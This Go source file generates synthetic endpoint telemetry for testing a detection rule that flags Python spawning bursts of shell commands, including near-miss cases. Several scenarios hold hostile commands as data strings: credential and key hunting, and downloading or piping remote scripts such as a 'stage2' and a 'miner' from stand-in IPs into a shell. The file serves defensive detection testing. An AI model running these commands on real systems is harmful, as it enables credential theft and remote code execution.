package sample

import (
	"time"
)

// Scenario describes one scripted burst and whether the seed rule must alert on it.
type Scenario struct {
	Name   string
	Host   string
	Alerts bool   // the seed rule raises an alert for this burst
	Why    string // what the scenario exercises
}

// Scenarios lists the scripted bursts of the bundled data set, in the order
// generated; tests and docs read it.
var Scenarios = []Scenario{
	{"linux-python-backdoor", "web-01", true, "python3 runs 8 distinct sh -c commands of 6 kinds in one minute"},
	{"macos-python-backdoor", "mac-03.corp.example", true, "Python (capitalised) runs zsh -c discovery and download commands"},
	{"busybox-container", "build-02", true, "python3.12 drives busybox sh -c with -lc/-cl flags"},
	{"ansible-near-miss", "db-02", false, "6 distinct commands but all of kind other: patterns < 4"},
	{"minute-boundary", "app-05", false, "7 commands split 4+3 across a minute boundary"},
	{"ipython-near-miss", "web-01", false, "parent ipython does not match python*"},
	{"fork-not-exec", "build-02", false, "event.action fork: KQL requires exec"},
	{"multi-valued-event-type", "cache-06", false, "two of six events have event.type [start, change], so == is null and they drop"},
	{"windows-python", "win-09", false, "python.exe spawning cmd.exe on Windows"},
	{"uppercase-C-flag", "ci-07", true, "sh -C flags: KQL() matches keywords case-insensitively"},
}

// command is one shell command a scenario runs.
type command struct {
	at   time.Duration // offset from the scenario start
	args []string
}

func sh(shell, flag, cmd string) []string { return []string{shell, flag, cmd} }

func (g *gen) hostNamed(name, osType string) host {
	for _, h := range g.hosts {
		if h.name == name {
			return h
		}
	}
	h := host{name: name, id: g.hex(32), agentID: g.uuid(), osType: osType, ip: "10.99.0.9"}
	switch osType {
	case "windows":
		h.osFamily, h.osName, h.osVersion, h.platform, h.kernel = "windows", "Windows Server 2022", "21H2", "windows", "10.0.20348"
	case "macos":
		h.osFamily, h.osName, h.osVersion, h.platform, h.kernel = "darwin", "macOS", "14.4.1", "macos", "23.4.0"
	default:
		h.osFamily, h.osName, h.osVersion, h.platform, h.kernel = "ubuntu", "Ubuntu", "22.04.4", "ubuntu", "5.15.0-105-generic"
	}
	g.hosts = append(g.hosts, h)
	return h
}

// burst runs cmds as shells of parent from start; mutate edits the
// shells' start events.
func (g *gen) burst(h host, start time.Time, parent proc, shellExe string, cmds []command, mutate func(i int, d map[string]any)) {
	for i, c := range cmds {
		child := g.newProc(h, shellExe, c.args, parent.cwd, parent.user)
		i := i
		g.exec(h, start.Add(c.at), parent, child, func(d map[string]any) {
			if mutate != nil {
				mutate(i, d)
			}
		})
	}
}

func at(s float64) time.Duration { return time.Duration(s * float64(time.Second)) }

func (g *gen) scenarios() {
	t0 := g.cfg.Start

	// 1. Linux Python backdoor: alert.
	web := g.hostNamed("web-01", "linux")
	py := g.newProc(web, "/usr/bin/python3.10", []string{"python3", "/tmp/.cache/update.py"}, "/tmp/.cache", "www-data")
	py = g.lineage(web, py, t0.Add(17*time.Minute+3*time.Second), interactive)
	g.burst(web, t0.Add(17*time.Minute+5*time.Second), py, "/bin/sh", []command{
		{at(0), sh("sh", "-c", "whoami")},
		{at(2), sh("sh", "-c", "uname -a")},
		{at(3.5), sh("sh", "-c", "id")},
		{at(5), sh("sh", "-c", "env | sort")},
		{at(9), sh("sh", "-c", "find / -perm -4000 -type f 2>/dev/null")},
		{at(15), sh("sh", "-c", "grep -ri password /etc/ 2>/dev/null")},
		{at(21), sh("sh", "-c", "curl -s http://203.0.113.50/x.sh -o /tmp/.x")},
		{at(26), sh("sh", "-c", "wget -q http://203.0.113.50/y -O /tmp/.y")},
		{at(30), sh("sh", "-c", "whoami")}, // repeated command line: counted once
	}, nil)

	// 2. macOS: parent "Python" from the framework build, zsh -c.
	mac := g.hostNamed("mac-03.corp.example", "macos")
	pym := g.newProc(mac, "/Library/Frameworks/Python.framework/Versions/3.11/Resources/Python.app/Contents/MacOS/Python",
		[]string{"Python", "agent.py"}, "/Users/alice/Downloads", "alice")
	pym = g.lineage(mac, pym, t0.Add(33*time.Minute+8*time.Second), macTerminal)
	g.burst(mac, t0.Add(33*time.Minute+10*time.Second), pym, "/bin/zsh", []command{
		{at(0), sh("zsh", "-c", "whoami")},
		{at(1), sh("zsh", "-c", "hostname")},
		{at(2), sh("zsh", "-c", "env ")},
		{at(4), sh("zsh", "-c", "find ~/Library/Keychains -name '*.db'")},
		{at(6), sh("zsh", "-c", "curl -fsSL https://198.51.100.7/stage2 | sh")},
	}, nil)

	// 3. busybox in a container, -lc and -cl flags.
	build := g.hostNamed("build-02", "linux")
	pyb := g.newProc(build, "/usr/local/bin/python3.12", []string{"python3.12", "-c", "import pty"}, "/app", "root")
	pyb = g.lineage(build, pyb, t0.Add(48*time.Minute+39*time.Second), container)
	g.burst(build, t0.Add(48*time.Minute+40*time.Second), pyb, "/bin/busybox", []command{
		{at(0), sh("busybox", "-lc", "cat /etc/passwd | grep sh$")},
		{at(3), sh("busybox", "-cl", "uname -m")},
		{at(5), sh("busybox", "-lc", "find / -name '*.pem' 2>/dev/null")},
		{at(8), sh("busybox", "-lc", "wget http://203.0.113.50/miner")},
		{at(11), sh("busybox", "-lc", "env | grep -i key")},
	}, nil)

	// 4. Near miss: many distinct commands, one kind.
	db := g.hostNamed("db-02", "linux")
	ans := g.newProc(db, "/usr/bin/python3.9", []string{"/usr/bin/python3", "/root/.ansible/tmp/AnsiballZ_command.py"}, "/root", "root")
	ans = g.lineage(db, ans, t0.Add(20*time.Minute+59*time.Second), ansible)
	var cmds []command
	for i, c := range []string{"systemctl is-active postgresql", "systemctl is-enabled postgresql", "df -h /var/lib/postgresql",
		"du -sh /var/lib/postgresql/15", "pg_lsclusters", "cat /etc/postgresql/15/main/pg_hba.conf"} {
		cmds = append(cmds, command{at(float64(i * 3)), sh("/bin/sh", "-c", c)})
	}
	g.burst(db, t0.Add(21*time.Minute), ans, "/bin/sh", cmds, nil)

	// 5. Burst split across a minute boundary: 4 before, 3 after.
	app := g.hostNamed("app-05", "linux")
	pya := g.newProc(app, "/usr/bin/python3", []string{"python3", "/opt/tool/run.py"}, "/opt/tool", "svc")
	pya = g.lineage(app, pya, t0.Add(45*time.Minute+38*time.Second), scheduled)
	g.burst(app, t0.Add(45*time.Minute+40*time.Second), pya, "/bin/bash", []command{
		{at(0), sh("bash", "-c", "whoami")},
		{at(4), sh("bash", "-c", "curl -s http://203.0.113.9/a")},
		{at(8), sh("bash", "-c", "find /home -name id_rsa")},
		{at(12), sh("bash", "-c", "grep -r token /opt")},
		{at(22), sh("bash", "-c", "env ")},
		{at(25), sh("bash", "-c", "wget http://203.0.113.9/b")},
		{at(28), sh("bash", "-c", "uname -r")},
	}, nil)

	// 6. ipython parent: TO_LOWER(name) like "python*" fails.
	ipy := g.newProc(web, "/usr/local/bin/ipython", []string{"ipython"}, "/home/dev", "dev")
	ipy = g.lineage(web, ipy, t0.Add(61*time.Minute+30*time.Second), interactive)
	g.burst(web, t0.Add(62*time.Minute), ipy, "/bin/sh", []command{
		{at(0), sh("sh", "-c", "whoami")}, {at(1), sh("sh", "-c", "uname -a")}, {at(2), sh("sh", "-c", "env ")},
		{at(3), sh("sh", "-c", "find . -name '*.py'")}, {at(4), sh("sh", "-c", "curl -I https://example.com")},
		{at(5), sh("sh", "-c", "grep TODO -r .")},
	}, nil)

	// 7. event.action fork: no exec.
	pyf := g.newProc(build, "/usr/bin/python3", []string{"python3", "worker.py"}, "/srv", "svc")
	pyf = g.lineage(build, pyf, t0.Add(69*time.Minute+58*time.Second), service)
	g.burst(build, t0.Add(70*time.Minute), pyf, "/bin/sh", []command{
		{at(0), sh("sh", "-c", "whoami")}, {at(1), sh("sh", "-c", "uname -a")}, {at(2), sh("sh", "-c", "env ")},
		{at(3), sh("sh", "-c", "find /srv")}, {at(4), sh("sh", "-c", "curl -s http://203.0.113.1")},
	}, func(i int, d map[string]any) {
		d["event"].(map[string]any)["action"] = "fork"
	})

	// 8. Multi-valued event.type on two events: event.type == "start" is null for them.
	cache := g.hostNamed("cache-06", "linux")
	pyc := g.newProc(cache, "/usr/bin/python3", []string{"python3", "/var/tmp/m.py"}, "/var/tmp", "redis")
	pyc = g.lineage(cache, pyc, t0.Add(80*time.Minute+4*time.Second), scheduled)
	g.burst(cache, t0.Add(80*time.Minute+5*time.Second), pyc, "/bin/dash", []command{
		{at(0), sh("dash", "-c", "whoami")}, {at(1), sh("dash", "-c", "uname -a")}, {at(2), sh("dash", "-c", "env ")},
		{at(3), sh("dash", "-c", "find /var -writable")}, {at(4), sh("dash", "-c", "curl -s http://203.0.113.2")},
		{at(5), sh("dash", "-c", "grep -r secret /etc")},
	}, func(i int, d map[string]any) {
		if i == 1 || i == 4 {
			d["event"].(map[string]any)["type"] = []string{"start", "change"}
		}
	})

	// 9. Windows: host.os.type windows.
	win := g.hostNamed("win-09", "windows")
	pyw := g.newProc(win, "C:\\Python311\\python.exe", []string{"python.exe", "c2.py"}, "C:\\Users\\bob", "bob")
	pyw = g.lineage(win, pyw, t0.Add(89*time.Minute+58*time.Second), windowsDesktop)
	g.burst(win, t0.Add(90*time.Minute), pyw, "C:\\Windows\\System32\\cmd.exe", []command{
		{at(0), sh("cmd.exe", "/c", "whoami")}, {at(1), sh("cmd.exe", "/c", "hostname")}, {at(2), sh("cmd.exe", "/c", "set")},
		{at(3), sh("cmd.exe", "/c", "dir /s *.kdbx")}, {at(4), sh("cmd.exe", "/c", "curl http://203.0.113.3")},
	}, func(i int, d map[string]any) {
		d["process"].(map[string]any)["name"] = "sh" // even a matching name does not pass the OS filter
	})

	// 10. -C: the KQL clause ignores case.
	ci := g.hostNamed("ci-07", "linux")
	pyci := g.newProc(ci, "/usr/bin/python3", []string{"python3", "/tmp/run"}, "/tmp", "ci")
	pyci = g.lineage(ci, pyci, t0.Add(100*time.Minute), ciJob)
	g.burst(ci, t0.Add(100*time.Minute+1*time.Second), pyci, "/bin/sh", []command{
		{at(0), sh("sh", "-C", "whoami")}, {at(1), sh("sh", "-C", "hostname -f")}, {at(2), sh("sh", "-C", "env ")},
		{at(3), sh("sh", "-C", "find /tmp")}, {at(4), sh("sh", "-C", "curl -s http://203.0.113.4")},
	}, nil)
}
